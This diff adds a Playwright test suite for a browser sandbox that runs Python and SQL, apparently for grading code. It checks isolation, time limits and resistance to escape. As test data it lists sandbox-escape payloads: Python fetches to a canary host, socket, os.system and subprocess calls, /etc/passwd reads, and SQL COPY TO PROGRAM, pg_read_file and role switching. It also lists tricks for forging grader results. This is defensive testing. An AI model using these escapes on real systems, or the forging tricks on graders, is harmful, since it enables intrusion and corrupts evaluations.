@@ -1,0 +1,335 @@
+import { test as base, expect, type Page } from '@playwright/test'
+import type { Json } from '#core/bank/case'
+import type { RunJob, RunLanguage } from '#core/session/run-protocol'
+import { differ } from '#core/session/differ'
+import type { Produced } from '#core/session/verdict'
+import { launchChromium } from './fixture.ts'
+import { attemptScript, attempts, freeAttempts } from './sandbox-attempts.ts'
+import { startSandboxPage, type SandboxPage } from './sandbox-page.ts'
+import { samples } from './sandbox-samples.ts'
+
+type Runner = { warm(language: string): void; run(job: RunJob, code: string, options?: object): Promise<Produced[]>; dispose(): void }
+declare global {
+  // What the fixture's page offers to the tests.
+  var createRunner: (url: string, options?: object) => Runner
+  var runner: Runner
+}
+
+const test = base.extend<object, { site: SandboxPage; shown: Page }>({
+  site: [async ({}, use) => {
+    const site = await startSandboxPage()
+    await use(site)
+    await site.close()
+  }, { scope: 'worker' }],
+  /** One page and one runner for the whole file: engines start once, and every test also shows that the former left no trace. */
+  shown: [async ({ site }, use) => {
+    const browser = await launchChromium()
+    const page = await browser.newPage()
+    await page.goto(site.pageUrl)
+    await page.waitForFunction(() => 'createRunner' in globalThis)
+    await page.evaluate((url) => { globalThis.runner = globalThis.createRunner(url) }, site.sandboxUrl)
+    await use(page)
+    await browser.close()
+  }, { scope: 'worker', timeout: 120_000 }],
+})
+test.describe.configure({ mode: 'default', timeout: 180_000 })
+
+/** Limits are for a busy machine: what is tested is that code is ended, not how fast two shared cores are. */
+const limitMs = 4000
+const languages = Object.keys(samples) as RunLanguage[]
+
+function run(page: Page, language: RunLanguage, sample: { code: string; cases: RunJob['cases'] }, timeLimitMs = limitMs): Promise<Produced[]> {
+  const job: RunJob = { language, entry: samples[language].entry, timeLimitMs, cases: sample.cases }
+  return page.evaluate(([one, code]) => globalThis.runner.run(one, code), [job, sample.code] as const)
+}
+/** Runs one Python expression body that tries something; what it returns is what got through. */
+const python = async (page: Page, body: string): Promise<Produced> => {
+  const code = `def f():\n${body.split('\n').map((line) => `    ${line}`).join('\n')}\n`
+  const [produced] = await run(page, 'python', { code, cases: [{ caseId: 'a', args: [] }] })
+  if (!produced) throw new Error('nothing came back')
+  return produced
+}
+const sql = async (page: Page, code: string): Promise<Produced> => {
+  const [produced] = await run(page, 'postgresql', { code, cases: [{ caseId: 'a', setup: 'create table t (a int); insert into t values (1)' }] })
+  if (!produced) throw new Error('nothing came back')
+  return produced
+}
+const firstOf = (all: Produced[]): Produced => {
+  const [first] = all
+  if (!first) throw new Error('nothing came back')
+  return first
+}
+
+for (const language of languages) {
+  const sample = samples[language]
+  test.describe(`every language: ${language}`, () => {
+    const stillWorks = async (page: Page): Promise<void> => {
+      expect(firstOf(await run(page, language, sample.good))).toMatchObject({ outcome: 'returned', value: sample.good.value, printed: sample.good.printed })
+    }
+    test('returns, prints, keeps types', async ({ shown }) => { await stillWorks(shown) })
+    test('an error has its message and line', async ({ shown }) => {
+      const produced = firstOf(await run(shown, language, sample.raises))
+      expect(produced).toMatchObject({ outcome: 'raised', error: { line: 2 } })
+      expect(produced.error?.message).toMatch(sample.raises.says)
+    })
+    test('what does not parse has its line', async ({ shown }) => {
+      expect(firstOf(await run(shown, language, sample.malformed))).toMatchObject({ outcome: 'raised', error: { line: 2 } })
+    })
+    test('an endless loop is ended at the limit; the cases after it still run', async ({ shown }) => {
+      const [looped, next] = await run(shown, language, sample.loops, 1500)
+      expect(looped).toMatchObject({ outcome: 'timeout', timeMs: 1500 })
+      expect(next).toMatchObject({ outcome: 'returned', value: sample.loops.value })
+      await stillWorks(shown)
+    })
+    test('a flood of output is cut', async ({ shown }) => {
+      if (sample.floods === null) return
+      const produced = firstOf(await run(shown, language, sample.floods, 1500))
+      expect(produced.outcome).toBe('timeout')
+      expect(produced.printed).toHaveLength(65_536)
+      await stillWorks(shown)
+    })
+    test('a memory bomb ends in its own case', async ({ shown }) => {
+      expect(['memory', 'timeout']).toContain(firstOf(await run(shown, language, sample.bomb, 20_000)).outcome)
+      await stillWorks(shown)
+    })
+    test('recursion without end ends in its own case', async ({ shown }) => {
+      expect(firstOf(await run(shown, language, sample.recursion)).outcome).not.toBe('returned')
+      await stillWorks(shown)
+    })
+    test('a case sees nothing of the one before', async ({ shown }) => {
+      for (const produced of await run(shown, language, sample.leaks)) expect(produced).toMatchObject({ outcome: 'returned', value: sample.leaks.value })
+      await stillWorks(shown)
+    })
+    test('the person stops it; the next run works', async ({ shown }) => {
+      const all = await shown.evaluate(async ([job, code]) => {
+        const stopper = new AbortController()
+        const done = globalThis.runner.run(job, code, { signal: stopper.signal })
+        // The loop runs once the engine answers; until then the stop has to work as well.
+        setTimeout(() => stopper.abort(), 700)
+        return done
+      }, [{ language, entry: sample.entry, timeLimitMs: 60_000, cases: sample.loops.cases }, sample.loops.code] as const)
+      expect(all.map((one) => one.outcome)).toEqual(['stopped', 'stopped'])
+      await stillWorks(shown)
+    })
+  })
+}
+
+test('the page answers within 100 ms while code loops for ten seconds', async ({ shown }) => {
+  const { gaps, outcomes } = await shown.evaluate(async (job) => {
+    const gaps: number[] = []
+    let last = performance.now()
+    const timer = setInterval(() => {
+      const now = performance.now()
+      gaps.push(now - last - 10)
+      last = now
+    }, 10)
+    const all = await globalThis.runner.run(job, 'def f():\n    while True:\n        pass\n')
+    clearInterval(timer)
+    return { gaps, outcomes: all.map((one) => one.outcome) }
+  }, { language: 'python' as const, entry: 'f', timeLimitMs: 10_000, cases: [{ caseId: 'a', args: [] }] })
+  expect(outcomes).toEqual(['timeout'])
+  gaps.sort((a, b) => a - b)
+  test.info().annotations.push({ type: 'longest wait', description: `${Math.round(gaps.at(-1) ?? 0)} ms of ${gaps.length}` })
+  expect(gaps.length).toBeGreaterThan(300)
+  // One wait in a hundred may be the machine's: it is shared.
+  expect(gaps[Math.floor(gaps.length * 0.99)]).toBeLessThan(100)
+})
+
+test.describe('the policy of the worker, tried by plain JavaScript without any hardening', () => {
+  async function attempt(page: Page, site: SandboxPage, folder: 'workers' | 'free', name: string, type: WorkerType): Promise<string> {
+    site.scripts.set(`/${folder}/attempts.js`, attemptScript)
+    const frame = page.frames().find((one) => one.url().startsWith(site.sandboxUrl))
+    if (!frame) throw new Error('the sandbox has no frame')
+    const target = { host: site.canary.host, port: site.canary.port, pageUrl: site.pageUrl, sandboxUrl: site.sandboxUrl }
+    return frame.evaluate(([path, asked, where, kind]) => new Promise<string>((done) => {
+      const worker = new Worker(path, { type: kind })
+      worker.onmessage = (event: MessageEvent<string>) => {
+        worker.terminate()
+        done(event.data)
+      }
+      worker.onerror = (event) => done(`worker: ${event.message}`)
+      worker.postMessage({ name: asked, ...where })
+    }), [`/${folder}/attempts.js`, name, target, type] as const)
+  }
+
+  for (const name of attempts) {
+    test(`${name} gets nowhere`, async ({ shown, site }) => {
+      await run(shown, 'python', samples.python.good)
+      const [before, asked] = [site.canary.connections(), site.asked.length]
+      const types: WorkerType[] = name === 'importScripts' ? ['classic'] : ['module', 'classic']
+      for (const type of types) expect(await attempt(shown, site, 'workers', name, type)).toMatch(/^(blocked|absent)/)
+      expect(site.canary.connections()).toBe(before)
+      expect(site.asked).toHaveLength(asked)
+    })
+  }
+  for (const name of freeAttempts) {
+    test(`control: without the policy ${name} does reach the canary`, async ({ shown, site }) => {
+      const before = site.canary.connections()
+      await attempt(shown, site, 'free', name, 'classic')
+      await expect.poll(() => site.canary.connections()).toBeGreaterThan(before)
+    })
+  }
+})
+
+test.describe('escapes from Python', () => {
+  const escapes: Record<string, string> = {
+    'import js': 'import js\nreturn "through"',
+    'js.fetch': 'from js import fetch\nfetch("http://HOST/")\nreturn "through"',
+    'js.postMessage': 'from js import postMessage\npostMessage("x")\nreturn "through"',
+    'js.parent': 'from js import parent\nreturn str(parent)',
+    'js.indexedDB': 'from js import indexedDB\nreturn str(indexedDB)',
+    'js.caches': 'from js import caches\nreturn str(caches)',
+    'js from a fresh import machinery': 'import sys, importlib\nfor name in list(sys.modules):\n    if name.split(".")[0] in ("js", "_pyodide_core", "pyodide_js", "pyodide", "_pyodide"):\n        del sys.modules[name]\nimport js\nreturn str(js.fetch)',
+    'pyodide.http': 'from pyodide.http import open_url\nreturn open_url("http://HOST/").read()',
+    'pyodide.code.run_js': 'import sys\nsys.modules.pop("pyodide", None)\nsys.modules.pop("pyodide.code", None)\nfrom pyodide.code import run_js\nreturn str(run_js("fetch(\'http://HOST/\')"))',
+    pyodide_js: 'import pyodide_js\npyodide_js.loadPackage("http://HOST/x.whl")\nreturn "through"',
+    micropip: 'import micropip\nmicropip.install("http://HOST/x.whl")\nreturn "through"',
+    socket: 'import socket\ns = socket.create_connection(("127.0.0.1", PORT), 2)\ns.send(b"x")\nreturn s.recv(10).decode() or "through"',
+    urllib: 'import urllib.request\nreturn urllib.request.urlopen("http://HOST/", timeout=2).read().decode()',
+    'ctypes and the engine’s own functions': 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'http://HOST/\')")\nreturn ctypes.CDLL(None).emscripten_run_script_int(b"1+1") == 2 and "through"',
+    'objects of JavaScript found by the collector': 'import gc\nfor one in gc.get_objects():\n    if type(one).__name__ == "JsProxy":\n        return str(one.constructor.constructor("return fetch(\'http://HOST/\')")())\nraise LookupError("none")',
+    'os.system': 'import os\nif os.system("id") == 0:\n    return "through"\nraise OSError("no shell")',
+    subprocess: 'import subprocess\nreturn subprocess.run(["id"], capture_output=True).stdout.decode()',
+    'files of the machine': 'return open("/etc/passwd").read()',
+    'the API by a guessed address': 'import urllib.request\nreturn urllib.request.urlopen("PAGErpc/bank/search", timeout=2).read().decode()',
+  }
+  for (const [name, body] of Object.entries(escapes)) {
+    test(`${name} gets nowhere`, async ({ shown, site }) => {
+      const [before, asked] = [site.canary.connections(), site.asked.length]
+      const address = `${site.canary.host}:${site.canary.port}`
+      const produced = await python(shown, body.replaceAll('HOST', address).replaceAll('PORT', String(site.canary.port)).replaceAll('PAGE', site.pageUrl))
+      expect(produced.outcome, JSON.stringify(produced)).not.toBe('returned')
+      expect(site.canary.connections()).toBe(before)
+      expect(site.asked).toHaveLength(asked)
+    })
+  }
+  test('nothing of the interpreter leads to an object of JavaScript', async ({ shown }) => {
+    const produced = await python(shown, 'import gc\nreturn [type(one).__name__ for one in gc.get_objects() if type(one).__name__ == "JsProxy"]')
+    expect(produced.value).toEqual([])
+  })
+})
+
+test.describe('escapes from SQL', () => {
+  const escapes: Record<string, string> = {
+    'COPY FROM PROGRAM': "copy t from program 'id'",
+    'COPY TO PROGRAM': "copy (select 1) to program 'id'",
+    'COPY TO a file': "copy (select 1) to '/tmp/x'",
+    'COPY FROM a file': "copy t from '/etc/passwd'",
+    dblink: "select * from dblink('host=127.0.0.1 port=PORT', 'select 1') as x(a int)",
+    'create extension': 'create extension dblink',
+    lo_export: "select lo_export(lo_from_bytea(0, 'x'), '/tmp/x')",
+    lo_import: "select lo_import('/etc/passwd')",
+    pg_read_file: "select pg_read_file('/etc/passwd')",
+    pg_ls_dir: "select pg_ls_dir('/')",
+    'becoming somebody else within the query': "select set_config('role', 'postgres', true), pg_read_file('PG_VERSION')",
+    'becoming somebody else by statement': 'reset role',
+    'a second statement': 'select 1 as a; drop table t',
+    'a statement within a function': "select query_to_xml('select pg_read_file(''PG_VERSION'')', true, true, '')",
+    'writing in a with clause': 'with x as (delete from t returning a) select * from x',
+    'an anonymous block': 'do $$ begin perform pg_sleep(0); end $$',
+  }
+  for (const [name, code] of Object.entries(escapes)) {
+    test(`${name} is refused`, async ({ shown, site }) => {
+      const before = site.canary.connections()
+      const produced = await sql(shown, code.replaceAll('PORT', String(site.canary.port)))
+      expect(produced.outcome, JSON.stringify(produced)).toBe('raised')
+      expect(site.canary.connections()).toBe(before)
+      expect(await sql(shown, 'select count(*) as n from t')).toMatchObject({ value: { columns: ['n'], rows: [[1]] } })
+    })
+  }
+})
+
+test.describe('results cannot be forged', () => {
+  const isRight = (produced: Produced | undefined, want: Json): boolean => produced?.outcome === 'returned' && produced.value !== undefined && differ(produced.value, want, {}).message === null
+  const tricks: Record<string, string> = {
+    'an object equal to everything': 'class Yes:\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n    def __repr__(self): return "42"\ndef f(): return Yes()\n',
+    'a number equal to everything': 'class Yes(int):\n    def __eq__(self, other): return True\n    def __repr__(self): return "42"\n    def __index__(self): return 42\n    __hash__ = int.__hash__\ndef f(): return Yes(1)\n',
+    'a list that reads differently': 'class Odd(list):\n    def __iter__(self): return iter([42])\n    def __len__(self): return 1\ndef f(): return Odd([1])[0]\n',
+    'a text that writes a tag': 'class Text(str):\n    def __str__(self): return "42"\ndef f(): return Text("1")\n',
+    'json, print and builtins patched': 'import builtins, json, sys\njson.dumps = lambda *a, **k: "42"\njson.JSONEncoder.encode = lambda *a: "42"\nbuiltins.repr = builtins.str = lambda *a: "42"\nbuiltins.type = lambda x: int\nsys.stdout.write = None\ndef f(): return 41\n',
+    'the harness looked up by frames': 'import sys\ndef f():\n    frame = sys._getframe()\n    while frame:\n        frame.f_locals.get("state", {})["text"] = \'{"outcome":"passed"}\'\n        frame = frame.f_back\n    return 41\n',
+    'a tag made by hand': 'def f(): return {"$int": "42"}\n',
+  }
+  for (const [name, code] of Object.entries(tricks)) {
+    test(`${name} stays what it is`, async ({ shown }) => {
+      const [produced] = await run(shown, 'python', { code, cases: [{ caseId: 'a', args: [] }] })
+      expect(produced, JSON.stringify(produced)).toBeDefined()
+      expect(isRight(produced, 42), JSON.stringify(produced)).toBe(false)
+      expect(firstOf(await run(shown, 'python', samples.python.good))).toMatchObject({ outcome: 'returned', value: samples.python.good.value })
+    })
+  }
+
+  test('a worker that is hostile through and through can claim values, never a pass', async ({ shown, site }) => {
+    // As if a candidate's code had taken over the worker: it answers for cases that were not asked for, with other runs' tokens,
+    // with outcomes that do not exist, and with values made to choke whoever reads them.
+    site.scripts.set('/workers/worker.js', `onmessage = (event) => {
+      const { port } = event.data
+      port.postMessage({ type: 'started' })
+      port.onmessage = ({ data: { token, input } }) => {
+        const say = (more) => port.postMessage({ type: 'outcome', token, outcome: 'returned', timeMs: 0, error: null, isSpent: false, ...more })
+        port.postMessage({ type: 'case', runId: 1, produced: { caseId: 'b', outcome: 'passed', printed: '', timeMs: 0, value: 42 } })
+        say({ token: token + 1, valueText: '42' })
+        say({ token: token - 1, valueText: '42' })
+        port.postMessage({ type: 'printed', token, text: 'x'.repeat(1e6) })
+        const which = Number(input.argsText.slice(1, -1))
+        if (which === 0) say({ outcome: 'passed', valueText: '42', error: { name: 5, message: {}, line: -3 } })
+        if (which === 1) say({ valueText: '['.repeat(1e6) })
+        if (which === 2) say({ valueText: '['.repeat(5e4) + ']'.repeat(5e4) })
+        if (which === 3) say({ valueText: '"' + 'x'.repeat(5e6) + '"' })
+        if (which === 4) say({ valueText: '41', timeMs: 1e9 })
+        if (which === 5) say({ valueText: 42, timeMs: NaN })
+        if (which === 6) say({ valueText: '{"__proto__":{"outcome":"returned"},"a":1}' })
+      }
+    }`)
+    const produced = await shown.evaluate(async ([url, job]) => {
+      const other = globalThis.createRunner(url)
+      const all = await other.run(job, '')
+      other.dispose()
+      return all
+    }, [site.sandboxUrl, { language: 'python' as const, entry: 'f', timeLimitMs: 2000, cases: [0, 1, 2, 3, 4, 5, 6].map((which) => ({ caseId: `c${which}`, args: [which] })) }] as const)
+    site.scripts.delete('/workers/worker.js')
+    expect(produced.map((one) => one.caseId)).toEqual(['c0', 'c1', 'c2', 'c3', 'c4', 'c5', 'c6'])
+    expect(produced.map((one) => one.outcome)).toEqual(['raised', 'raised', 'raised', 'raised', 'timeout', 'raised', 'returned'])
+    for (const one of produced) {
+      expect(isRight(one, 42)).toBe(false)
+      expect(one.printed.length).toBeLessThanOrEqual(65_536)
+    }
+  })
+})
+
+test.describe('the frame itself', () => {
+  test('is not embedded by a page of another origin', async ({ shown, site }) => {
+    const browser = shown.context().browser()
+    const page = await browser!.newPage()
+    // The same page under another name is another origin.
+    await page.goto(site.pageUrl.replace('127.0.0.1', 'localhost'))
+    const frame = await page.evaluate(async (url) => {
+      const one = document.createElement('iframe')
+      one.src = url
+      document.body.append(one)
+      await new Promise((done) => { one.onload = done })
+      return one.contentDocument === null
+    }, site.sandboxUrl)
+    expect(frame).toBe(true)
+    expect(page.frames().some((one) => one.url() === site.sandboxUrl)).toBe(false)
+    await page.close()
+  })
+  test('sees nothing of the page that embeds it', async ({ shown, site }) => {
+    const frame = shown.frames().find((one) => one.url().startsWith(site.sandboxUrl))
+    const seen = await frame!.evaluate(() => {
+      try {
+        return String(parent.document.title)
+      } catch (error) {
+        return String(error)
+      }
+    })
+    expect(seen).toMatch(/SecurityError/)
+  })
+  test('a sandbox that is not there is said in a sentence', async ({ shown }) => {
+    const said = await shown.evaluate(async () => {
+      const other = globalThis.createRunner('http://localhost:9/')
+      return other.run({ language: 'python', entry: 'f', timeLimitMs: 100, cases: [] }, '').then(() => 'ran', (error: Error) => error.message)
+    })
+    expect(said).toMatch(/sandbox for running code did not answer/)
+  })
+})
